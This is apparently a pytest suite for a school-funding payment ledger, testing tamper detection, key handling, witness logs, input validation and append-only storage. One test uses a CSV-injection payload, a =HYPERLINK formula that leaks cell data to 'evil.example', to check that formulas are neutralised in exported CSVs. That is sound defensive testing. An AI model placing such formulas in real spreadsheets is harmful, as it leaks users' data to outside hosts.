"""Trust (issue 21): who recorded what and when, the ledger key, the witness log.

Every case runs on SQLite and PostgreSQL. Forgeries are made as an attacker would, straight in
the database (``Raw``), without the ledger's key.
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import orjson
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner, Result

from conftest import KEY_DIR, FakeClock
from reliability_support import record_figure
from test_audit_support import History, Raw, build_history
from test_audit_verify import rewrite_after_edit
from topup_ledger.cli import main
from topup_ledger.services.recording import Ledger
from topup_ledger.storage import keys
from topup_ledger.storage.chain import chain_head, digest
from topup_ledger.storage.store import EventStore, is_postgres

ROOT = Path(__file__).resolve().parent.parent


def topup(location: str, *args: str, clock: Any = None, env: dict[str, str] | None = None) -> Result:
    obj: dict[str, Any] = {"location": location}
    if clock is not None:
        obj["clock"] = clock
    return CliRunner().invoke(main, list(args), obj=obj, env=env, catch_exceptions=False)


def expected_actor(location: str) -> str:
    if not is_postgres(location):
        return keys.os_login()
    store = EventStore(location)
    try:
        return store.actor()
    finally:
        store.close()


def envelopes(location: str) -> list[dict[str, Any]]:
    return [orjson.loads(r.state) for r in Raw(location).rows()]


def forged_state(urn: str, name: str) -> bytes:
    return orjson.dumps({"v": 1, "at": "2026-01-01T00:00:00+00:00",
                         "data": {"urn": urn, "name": name, "setting": "mainstream", "la_code": None}})


def insert_row(location: str, stream: str, version: int, topic: str, state: bytes) -> int:
    raw = Raw(location)
    with raw.connect() as conn:
        conn.execute(raw.sql("INSERT INTO {table} (originator_id, originator_version, topic, state) "
                             "VALUES (?, ?, ?, ?)"), (stream, version, topic, state))
    return max(r.position for r in raw.rows())


# 1. Who recorded each event, and when.


def test_every_event_names_its_actor_and_its_time_goes_forward(location: str) -> None:
    store = EventStore(location)
    clock = FakeClock()
    ledger = Ledger(store, clock=clock)
    try:
        ledger.add_school("100001", "Oakfield", "mainstream")
        clock.advance(days=-3)  # a writer's clock three days slow
        ledger.add_school("100002", "Beacon", "special")
    finally:
        store.close()
    states = envelopes(location)
    actor = expected_actor(location)
    assert [s["by"] for s in states] == [actor, actor]
    first, second = (datetime.fromisoformat(s["at"]) for s in states)
    assert second == first  # clamped to the event before: ledger order and time order agree


def test_without_a_test_clock_the_store_takes_the_time(location: str) -> None:
    before = datetime.now(UTC) - timedelta(seconds=5)
    store = EventStore(location)
    try:
        Ledger(store).add_school("100001", "Oakfield", "mainstream")  # the product's own clock
        recorded = store.stream_recorded("school:100001")[0]
    finally:
        store.close()
    # SQLite: this machine's clock; PostgreSQL: the server's (the same machine here)
    assert before <= recorded.recorded_at <= datetime.now(UTC) + timedelta(seconds=5)
    assert recorded.recorded_by == expected_actor(location)


def test_history_and_export_show_who_and_when(location: str, tmp_path: Path) -> None:
    clock = FakeClock()
    for args in (["school", "add", "100001", "--name", "Oak", "--setting", "mainstream"],
                 ["rate", "set", "--year", "2025-26", "--hourly", "11.81", "--weeks", "38"],
                 ["plan", "issue", "P1", "--pupil", "PR-1", "--school", "100001", "--from",
                  "2025-09-01", "--hours", "10"]):
        assert topup(location, *args, clock=clock).exit_code == 0
    rows = json.loads(topup(location, "history", "P1", "--json", clock=clock).output)
    assert rows[0]["recorded_by"] == expected_actor(location)
    assert rows[0]["recorded_at"].startswith("2025-09-01T09:00")
    out = tmp_path / "events.parquet"
    assert topup(location, "export", "events", "--out", str(out)).exit_code == 0
    table = pq.read_table(out).to_pylist()
    assert {r["recorded_by"] for r in table} == {expected_actor(location)}
    checked = subprocess.run([sys.executable, str(ROOT / "scripts" / "verify_export.py"), str(out)],
                             capture_output=True, text=True)
    assert checked.returncode == 0, checked.stdout + checked.stderr


def test_events_from_before_actors_read_as_unknown_and_verify(location: str) -> None:
    raw = Raw(location)
    raw.made_before_keys()
    old = orjson.dumps({"v": 1, "at": "2025-09-01T09:00:01+00:00", "data": {
        "urn": "100001", "name": "Oak", "setting": "mainstream", "la_code": None}})
    insert_row(location, "school:100001", 1, "school.added", old)
    store = EventStore(location)
    try:
        assert store.stream_recorded("school:100001")[0].recorded_by == "unknown"
        Ledger(store, clock=FakeClock()).add_school("100002", "Beacon", "special")
    finally:
        store.close()
    assert Raw(location).rows()[0].state == old  # never rewritten
    assert topup(location, "verify").exit_code == 0


# 2. The ledger key.


def test_init_makes_a_private_key_file_and_records_only_its_id(backend: str, tmp_path: Path) -> None:
    from conftest import new_location

    location = new_location(backend, tmp_path)
    result = topup(location, "init")
    assert result.exit_code == 0, result.output
    store = EventStore(location)
    try:
        info = store.info
    finally:
        store.close()
    assert info is not None
    path = Path(KEY_DIR) / f"{info['ledger_id']}.key"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    key = keys.decode_key(path.read_text(), "test")
    assert info["key_id"] == keys.key_id(key)
    assert path.read_text().strip() not in json.dumps(info)
    assert topup(location, "init").exit_code == 0  # again: the same ledger, the same key
    assert len(list(Path(KEY_DIR).glob(f"{info['ledger_id']}*"))) == 1


def test_a_missing_or_different_key_refuses_before_recording(location: str, tmp_path: Path) -> None:
    add = ["school", "add", "100001", "--name", "Oak", "--setting", "mainstream"]
    missing = topup(location, *add, env={"TOPUP_KEY_DIR": str(tmp_path / "nowhere")})
    assert missing.exit_code == 4
    assert "the ledger key is missing" in missing.output
    other = keys.LedgerKey(os.urandom(32), "x")
    import base64

    wrong = topup(location, *add, env={"TOPUP_LEDGER_KEY": base64.b64encode(other.key).decode()})
    assert wrong.exit_code == 4 and "the ledger key is wrong" in wrong.output
    assert other.id in wrong.output
    assert Raw(location).rows() == []
    record_figure("trust", probe="write with a missing / a different ledger key",
                  backend="postgres" if is_postgres(location) else "sqlite",
                  result=f"exit {missing.exit_code} / {wrong.exit_code}, the key named; 0 events recorded")
    # the right key, given in a file of its own (a secret store), is accepted
    store = EventStore(location)
    ledger_id = (store.info or {})["ledger_id"]
    store.close()
    moved = tmp_path / "secret.key"
    moved.write_text((Path(KEY_DIR) / f"{ledger_id}.key").read_text())
    given = CliRunner().invoke(main, ["--key-file", str(moved), *add], obj={"location": location},
                               env={"TOPUP_KEY_DIR": str(tmp_path / "nowhere")})
    assert given.exit_code == 0, given.output


def test_a_row_inserted_without_the_key_is_named_and_not_paid(location: str, tmp_path: Path) -> None:
    history = build_history(location, FakeClock(), tmp_path / "payments")
    assert topup(location, "verify").exit_code == 0
    state = orjson.loads(Raw(location).where("plan.hours_changed")[0].state
                         if Raw(location).where("plan.hours_changed") else b"{}")
    assert state == {} or "mac" in state
    forged = orjson.dumps({"v": 1, "at": "2026-04-02T09:00:30+00:00", "data": {
        "plan": "P3", "effective": "2025-10-06", "hours": "40", "reason": "", "approved_by": None}})
    position = insert_row(location, "plan:P3", 4, "plan.hours_changed", forged)
    result = topup(location, "verify", "--json")
    assert result.exit_code == 1
    report = json.loads(result.output)
    auth = [p for p in report["problems"] if p["kind"] == "auth"]
    assert [p["position"] for p in auth] == [position] and auth[0]["event"] == "P3/4"
    paid = topup(location, "pay", "2026-27/autumn", "--out", str(tmp_path / "out"))
    assert paid.exit_code == 4
    assert "refusing to pay" in paid.output and "P3/4" in paid.output
    assert not (tmp_path / "out").exists()
    assert history.location == location
    record_figure("trust", probe="forged tail event (a row inserted with SQL, no key)",
                  backend="postgres" if is_postgres(location) else "sqlite",
                  result=f"verify exit 1 naming {auth[0]['event']}; pay exit {paid.exit_code}, "
                         "nothing recorded or written")


def test_an_event_edited_without_the_key_is_named(location: str, tmp_path: Path) -> None:
    history = build_history(location, FakeClock(), tmp_path / "payments")
    raw = Raw(location)
    changed = history.positions["band change"]
    raw.replace(changed, b'"band":"D"', b'"band":"C"')
    rewrite_after_edit(location, history.out)  # every seal and link recomputed to match
    report = json.loads(topup(location, "verify", "--json").output)
    assert report["ok"] is False
    named = {p["position"] for p in report["problems"] if p["kind"] == "auth"}
    assert changed in named  # the edited event, and every seal rewritten to cover it
    assert all(raw.row(p).topic in ("plan.band_changed", "ledger.sealed", "payment.run_recorded",
                                    "payment.files_written") for p in named)


# 2b. The cipher key of an encrypted ledger.


def test_a_missing_or_wrong_cipher_key_refuses_writes(backend: str, tmp_path: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    from eventsourcing.cipher import AESCipher

    from conftest import new_location

    monkeypatch.setenv("TOPUP_CIPHER_KEY", AESCipher.create_key(32))
    location = new_location(backend, tmp_path)
    assert topup(location, "init").exit_code == 0
    add = ["school", "add", "100001", "--name", "Oak", "--setting", "mainstream"]
    monkeypatch.setenv("TOPUP_CIPHER_KEY", AESCipher.create_key(32))
    wrong = topup(location, *add)
    assert wrong.exit_code == 4 and "cipher key is wrong" in wrong.output
    monkeypatch.delenv("TOPUP_CIPHER_KEY")
    missing = topup(location, *add)
    assert missing.exit_code == 4 and "TOPUP_CIPHER_KEY is not set" in missing.output
    assert Raw(location).rows() == []
    record_figure("trust", probe="write to an encrypted ledger with a wrong / no cipher key",
                  backend=backend, result=f"exit {wrong.exit_code} / {missing.exit_code}; 0 events recorded")


# 3. The witness log.


@pytest.fixture
def witnessed(location: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[History, Path]:
    log = tmp_path / "elsewhere" / "witness.log"
    # The witness is for what the key cannot catch: a rewrite by someone who holds the key, or
    # of a ledger made before keys. The rewrites below are made without a key: start keyless.
    Raw(location).made_before_keys()
    monkeypatch.setenv("TOPUP_WITNESS", str(log))  # every payment run's seal
    history = build_history(location, FakeClock(), tmp_path / "payments")
    monkeypatch.delenv("TOPUP_WITNESS")
    result = topup(location, "seal", "--witness", str(log))
    assert result.exit_code == 0, result.output
    return history, log


def test_a_witness_log_holds_every_seal_and_verifies_clean(witnessed: tuple[History, Path]) -> None:
    history, log = witnessed
    lines = log.read_text().splitlines()
    assert len(lines) == 4  # three payment runs and the seal on demand
    assert stat.S_IMODE(log.stat().st_mode) == 0o600
    result = topup(history.location, "verify", "--witness", str(log), "--json")
    assert result.exit_code == 0, result.output
    report = json.loads(result.output)
    assert [c["status"] for c in report["checkpoints"] if c["source"] == "witness"] == ["ok"] * 4


def test_a_ledger_cut_back_fails_against_its_witness(witnessed: tuple[History, Path]) -> None:
    history, log = witnessed
    raw = Raw(history.location)
    cut = history.positions["after summer"] - 1
    raw.truncate_after(cut)
    result = topup(history.location, "verify", "--witness", str(log), "--json")
    assert result.exit_code == 1
    report = json.loads(result.output)
    text = " ".join(p["message"] for p in report["problems"])
    assert "the ledger is shorter than this witness" in text
    record_figure("trust", probe="ledger cut back after witnessed seals, verify --witness",
                  backend="postgres" if is_postgres(history.location) else "sqlite",
                  result="exit 1: the ledger is shorter than its witness")


def test_a_consistent_rewrite_blames_the_ledger_not_the_witness(witnessed: tuple[History, Path]) -> None:
    history, log = witnessed
    raw = Raw(history.location)
    changed = history.positions["band change"]
    raw.replace(changed, b'"band":"D"', b'"band":"C"')
    rewrite_after_edit(history.location, history.out)
    for args in (["--witness", str(log)], ["--digest", history.digests["end"]]):
        result = topup(history.location, "verify", *args, "--json")
        assert result.exit_code == 1
        report = json.loads(result.output)
        failing = [c for c in report["checkpoints"] if c["status"] != "ok"]
        assert failing and {c["source"] for c in failing} <= {"witness", "digest"}
        text = " ".join(p["message"] for p in report["problems"])
        assert "the ledger is not what it was" in text
        assert "was altered: it says" not in text  # the witness is never the one blamed
        assert report["first_mismatch"]["position"] <= changed
        record_figure("trust", probe=f"consistent rewrite (every link and seal recomputed), "
                      f"verify {args[0]}", backend="postgres" if is_postgres(history.location)
                      else "sqlite", result="exit 1, the ledger named as altered, "
                      f"first mismatch at or before position {changed}")


def test_the_digest_outranks_a_recomputed_seal_at_the_same_position(location: str, tmp_path: Path) -> None:
    Raw(location).made_before_keys()
    store = EventStore(location)
    ledger = Ledger(store, clock=FakeClock())
    try:
        ledger.add_school("100001", "Oak", "mainstream")
        ledger.add_school("100002", "Beacon", "special")
        before = digest(*chain_head(store))
    finally:
        store.close()
    topup(location, "seal")
    raw = Raw(location)
    raw.replace(2, b"Beacon", b"Bacon!")
    rewrite_after_edit(location, tmp_path)
    report = json.loads(topup(location, "verify", "--digest", before, "--json").output)
    assert report["ok"] is False
    digest_problems = [p for p in report["problems"] if p["kind"] == "digest"]
    assert digest_problems and "the ledger is not what it was" in digest_problems[0]["message"]
    assert report["confirmed_upto"] < 2


# 4. Safe files: control characters refused at input, formulas neutralised in CSVs.


@pytest.mark.parametrize("name", ["Oak\u202eloohcS", "Oak\nSchool", "Oak\x00", "Oak\tSchool",
                                  "Oak\x85School"])
def test_control_characters_are_refused_on_the_command_line(location: str, name: str) -> None:
    result = topup(location, "school", "add", "100001", "--name", name, "--setting", "mainstream")
    assert result.exit_code == 2
    assert "name: contains" in result.output and "refused; nothing was recorded" in result.output
    assert Raw(location).rows() == []


def test_control_characters_are_refused_at_import_naming_line_and_column(
        location: str, tmp_path: Path) -> None:
    schools = tmp_path / "schools.csv"
    schools.write_text("urn,name,setting,la_code\n100001,Oakfield,mainstream,\n"
                       "100002,Beacon\u202e,special,\n100003,Elm,mainstream,9\x01\n", encoding="utf-8")
    result = topup(location, "import", str(schools))
    assert result.exit_code != 0
    rejects = (tmp_path / "schools.rejects.csv").read_text(encoding="utf-8-sig")
    assert "3,name,contains a bidirectional control (U+202E)" in rejects
    assert "4,la_code,contains a control character (U+0001)" in rejects
    assert "\u202e" not in rejects and "\x01" not in rejects  # shown by code point, not raw
    assert Raw(location).rows() == []
    record_figure("trust", probe="control and bidi characters in an imported file",
                  backend="postgres" if is_postgres(location) else "sqlite",
                  result="rows rejected naming line and column; 0 events recorded")


def test_a_formula_in_a_name_is_neutralised_in_every_csv(location: str, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    clock = FakeClock()
    for args in (["school", "add", "100001", "--name", formula, "--setting", "mainstream"],
                 ["school", "add", "100002", "--name", "-Minus School", "--setting", "mainstream"],
                 ["rate", "set", "--year", "2025-26", "--hourly", "11.81", "--weeks", "38"],
                 ["calendar", "set", "--year", "2025-26"],
                 ["plan", "issue", "P1", "--pupil", "PR-1", "--school", "100001", "--from",
                  "2025-09-01", "--hours", "30"],
                 ["plan", "issue", "P2", "--pupil", "PR-2", "--school", "100002", "--from",
                  "2025-09-01", "--hours", "30"],
                 ["plan", "hours", "P1", "--hours", "29", "--from", "2025-09-01",
                  "--reason", "+1 hour: review"]):
        result = topup(location, *args, clock=clock)
        assert result.exit_code == 0, result.output
    out = tmp_path / "pay"
    assert topup(location, "pay", "2025-26/autumn", "--out", str(out), clock=clock).exit_code == 0
    csvs = {p.name: p.read_text(encoding="utf-8") for p in out.glob("*.csv")}
    schools = next(t for n, t in csvs.items() if n.startswith("payments-"))
    assert "'=HYPERLINK(" in schools and ",=HYPERLINK" not in schools and '"=HYPERLINK' not in schools
    assert "'-Minus School" in schools
    for text in csvs.values():
        for cell in (c.strip('"') for line in text.splitlines()[1:] for c in line.split(",")):
            assert not cell.startswith(("=", "+", "@")), cell
            if cell.startswith("-"):
                float(cell)  # a negative number, never text
    # the Parquet files keep the values themselves; verify rebuilds the same bytes
    table = pq.read_table(next(out.glob("payments-*.parquet"))).to_pylist()
    assert {r["school_name"] for r in table} >= {formula} or formula in json.dumps(table)
    assert topup(location, "verify", "--files", str(out)).exit_code == 0
    record_figure("trust", probe="formula school name and reason, written to every CSV",
                  backend="postgres" if is_postgres(location) else "sqlite",
                  result="neutralised with a leading ' in every CSV; numbers unchanged")


# 5. PostgreSQL keeps the events append-only; a failed init leaves nothing behind.


def test_postgres_refuses_update_delete_and_truncate_of_events(tmp_path: Path) -> None:
    from conftest import new_location

    location = new_location("postgres", tmp_path)
    assert topup(location, "init").exit_code == 0
    store = EventStore(location)
    try:
        Ledger(store, clock=FakeClock()).add_school("100001", "Oak", "mainstream")
    finally:
        store.close()
    import psycopg

    from topup_ledger.storage.store import postgres_schema

    schema = postgres_schema(location)
    url = location.split("?")[0]
    refused = 0
    for statement in (f'UPDATE "{schema}".topup_events SET state = state',
                      f'DELETE FROM "{schema}".topup_events',
                      f'TRUNCATE "{schema}".topup_events',
                      f'DELETE FROM "{schema}".topup_ledger_info'):
        with psycopg.connect(url, autocommit=True) as conn:
            with pytest.raises(psycopg.Error, match="append-only"):
                conn.execute(statement)
            refused += 1
    record_figure("postgres append-only statements refused", refused=refused, of=4)
    assert len(Raw(location).rows()) == 1


def test_a_failed_postgres_init_leaves_no_schema(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from conftest import new_location
    from topup_ledger.storage import store as store_module

    location = new_location("postgres", tmp_path)

    def broken(recorder: Any, info: Any) -> None:
        raise RuntimeError("the server went away during init")

    monkeypatch.setattr(store_module, "guard_append_only", broken)
    with pytest.raises(RuntimeError):
        EventStore(location, create=True)
    import psycopg

    from topup_ledger.storage.store import postgres_schema

    with psycopg.connect(location.split("?")[0], autocommit=True) as conn:
        found = conn.execute("SELECT 1 FROM pg_namespace WHERE nspname = %s",
                             (postgres_schema(location),)).fetchone()
    assert found is None


# 6. One release per run.


def test_a_recorded_run_is_released_once_and_copies_are_marked(location: str, tmp_path: Path) -> None:
    clock = FakeClock()
    for args in (["school", "add", "100001", "--name", "Oak", "--setting", "mainstream"],
                 ["rate", "set", "--year", "2025-26", "--hourly", "11.81", "--weeks", "38"],
                 ["calendar", "set", "--year", "2025-26"],
                 ["plan", "issue", "P1", "--pupil", "PR-1", "--school", "100001", "--from",
                  "2025-09-01", "--hours", "30"]):
        assert topup(location, *args, clock=clock).exit_code == 0
    first, other, copies = tmp_path / "first", tmp_path / "other", tmp_path / "copies"
    assert topup(location, "pay", "2025-26/autumn", "--out", str(first), clock=clock).exit_code == 0
    again = topup(location, "pay", "2025-26/autumn", "--out", str(first), clock=clock)
    assert again.exit_code == 0  # the same folder: the same bytes, nothing new released
    refused = topup(location, "pay", "2025-26/autumn", "--out", str(other), clock=clock)
    assert refused.exit_code == 2 and "released already" in refused.output and "--copy" in refused.output
    assert not other.exists() or not any(other.iterdir())
    copied = topup(location, "pay", "2025-26/autumn", "--out", str(copies), "--copy", clock=clock)
    assert copied.exit_code == 0, copied.output
    names = sorted(p.name for p in copies.iterdir())
    assert names and all(n.startswith("COPY-") for n in names)
    # verify finds the run's files by their digests, whatever their names
    renamed = tmp_path / "finance"
    renamed.mkdir()
    for n, path in enumerate(sorted(first.iterdir())):
        (renamed / f"received-{n}{path.suffix}").write_bytes(path.read_bytes())
    for folder in (copies, renamed):
        report = json.loads(topup(location, "verify", "--files", str(folder), "--json").output)
        assert report["ok"], report["problems"]
        assert report["files_checked"] >= 2 * len(names)
    victim = sorted(renamed.glob("*.csv"))[0]
    victim.write_bytes(victim.read_bytes().replace(b"Oak", b"Oax"))
    report = json.loads(topup(location, "verify", "--files", str(renamed), "--json").output)
    assert report["ok"]  # a changed copy under another name matches no digest: it is not the run's
    record_figure("trust", probe="a paid period paid again to another folder",
                  backend="postgres" if is_postgres(location) else "sqlite",
                  result=f"exit {refused.exit_code} without --copy; --copy writes COPY- files, "
                         "verify --files matches files by digest")


# 8. Bounded input (in part): absurd headers and oversize cells refused in linear time.


def test_an_absurd_header_or_an_oversize_cell_is_refused_quickly(location: str, tmp_path: Path) -> None:
    import time

    wide = tmp_path / "plans.csv"
    wide.write_text(",".join(f"c{i}" for i in range(1_000_000)) + "\n", encoding="utf-8")
    started = time.perf_counter()
    result = topup(location, "import", str(wide))
    seconds = time.perf_counter() - started
    assert result.exit_code != 0 and "1,000,000 columns" in result.output, result.output
    assert "Traceback" not in result.output and seconds < 10
    long = tmp_path / "changes.csv"
    long.write_text("plan,change,from,reason\nP1,cease,2026-03-01," + "x" * 200_000 + "\n",
                    encoding="utf-8")
    refused = topup(location, "import", str(long))
    assert refused.exit_code != 0 and "longer than 65,536 characters" in refused.output
    assert Raw(location).rows() == []
    record_figure("trust", probe="a 1,000,000-column header; a 200,000-character cell",
                  backend="postgres" if is_postgres(location) else "sqlite",
                  result=f"refused in {seconds:.2f} s, no traceback; cell refused naming its line")
